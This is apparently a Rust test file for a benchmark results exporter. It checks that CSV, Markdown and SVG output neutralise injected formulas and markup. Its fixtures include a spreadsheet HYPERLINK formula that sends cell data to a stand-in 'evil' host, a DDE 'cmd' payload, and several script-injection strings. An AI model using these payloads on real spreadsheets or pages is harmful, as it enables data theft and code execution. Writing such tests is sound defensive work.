//! Results files written from text that came from elsewhere (node names, error texts, modes
//! a results file carries): a spreadsheet opening the CSV runs no formula, and the markdown
//! and SVG carry no markup of that text's making (issue 31, finding 7).

mod common;

use results::{
    read_csv, write_csv, Exporter, MarkdownExporter, NetworkMode, RailStatus, Report, SvgExporter,
};

fn hostile_rows() -> Vec<results::RailResult> {
    let mut rows = common::fixture_rows();
    rows.truncate(2);
    rows[0].client_node = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")".into();
    rows[0].run_id = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    rows[0].server_node = "+1+1".into();
    rows[0].client_rdma_device = "\t=1+1".into();
    rows[1].network_mode = NetworkMode::Other("-2+3".into());
    rows[1].server_node = "'quoted".into();
    rows[1].status = RailStatus::Failed;
    rows[1].bw_avg_gbps = None;
    rows[1].error = Some("\r=cmd".into());
    rows
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_unchanged() {
    let rows = hostile_rows();
    let mut out = Vec::new();
    write_csv(&mut out, &rows).unwrap_or_else(|e| panic!("{e}"));
    let mut rdr = csv::ReaderBuilder::new().from_reader(&out[..]);
    let header = rdr.headers().cloned().unwrap_or_default();
    let mut cells = 0;
    for rec in rdr.records() {
        let rec = rec.unwrap_or_else(|e| panic!("{e}"));
        for (name, c) in header.iter().zip(rec.iter()) {
            cells += 1;
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "column {name} starts a formula: {c:?}"
            );
        }
    }
    assert!(cells > 20);
    let text = String::from_utf8_lossy(&out);
    assert!(text.contains("'=HYPERLINK"), "{text}");
    assert!(text.contains("''quoted"), "{text}");
    // Numbers stay numbers.
    assert!(!text.contains("'9"), "{text}");
    let back = read_csv(&out[..], "hostile.csv").unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(back, rows);
}

#[test]
fn markdown_carries_no_html_links_or_lines_from_a_results_file() {
    let mut rows = hostile_rows();
    rows[0].network_mode = NetworkMode::Other("<img src=x onerror=alert(1)>".into());
    rows[0].client_node = "node-a\n# forged heading\n<script>alert(1)</script>".into();
    rows[1].error = Some("[click](javascript:alert(1)) | `code` </td>".into());
    rows[1].network_mode = NetworkMode::Other("sriov\n\n| forged | table |".into());
    let report = Report::new("railbench <b>test</b>", rows);
    let md = MarkdownExporter
        .serialize(&report)
        .map(|b| String::from_utf8_lossy(&b).into_owned())
        .unwrap_or_else(|e| panic!("{e}"));
    for bad in [
        "<img",
        "<script",
        "</td>",
        "<b>",
        "[click](javascript",
        "`code`",
    ] {
        assert!(!md.contains(bad), "{bad} in:\n{md}");
    }
    assert!(
        !md.lines()
            .any(|l| l.starts_with("# forged") || l.starts_with("| forged")),
        "{md}"
    );
    assert!(md.contains("&lt;img src=x"), "{md}");
}

#[test]
fn svg_escapes_labels_and_drops_control_characters() {
    let mut rows = hostile_rows();
    rows[0].network_mode = NetworkMode::Other("<script>alert(1)</script>\u{1}\u{1b}".into());
    let report = Report::new("test", rows);
    let svg = SvgExporter::default()
        .serialize(&report)
        .map(|b| String::from_utf8_lossy(&b).into_owned())
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(!svg.contains("<script"), "{svg}");
    // XML 1.0 has no place for these: a document with one does not parse.
    assert!(
        !svg.chars()
            .any(|c| c.is_control() && c != '\n' && c != '\t' && c != '\r'),
        "control characters in the SVG"
    );
}
